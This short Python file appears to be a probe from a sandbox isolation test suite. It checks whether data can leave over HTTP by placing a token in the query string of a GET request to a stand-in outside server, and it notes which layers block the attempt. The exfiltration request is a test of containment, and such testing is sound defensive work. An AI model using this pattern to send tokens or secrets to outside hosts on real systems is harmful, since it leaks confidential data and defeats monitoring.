"""Send data out over HTTP.

Attempts:  put it into the address of a page on a server that stands in for one outside.
Success:   the stand-in hears it.
Proof:     heard web
Runs:      python
Executor:  import rule
Host:      lets it through: any network that reaches the outside can carry data out
Socket:    no network (ENETUNREACH)
"""

import http.client

connection = http.client.HTTPConnection(target["outside"], target["web"], timeout=3)
connection.request("GET", "/?data=" + target["token"])
print(connection.getresponse().status)
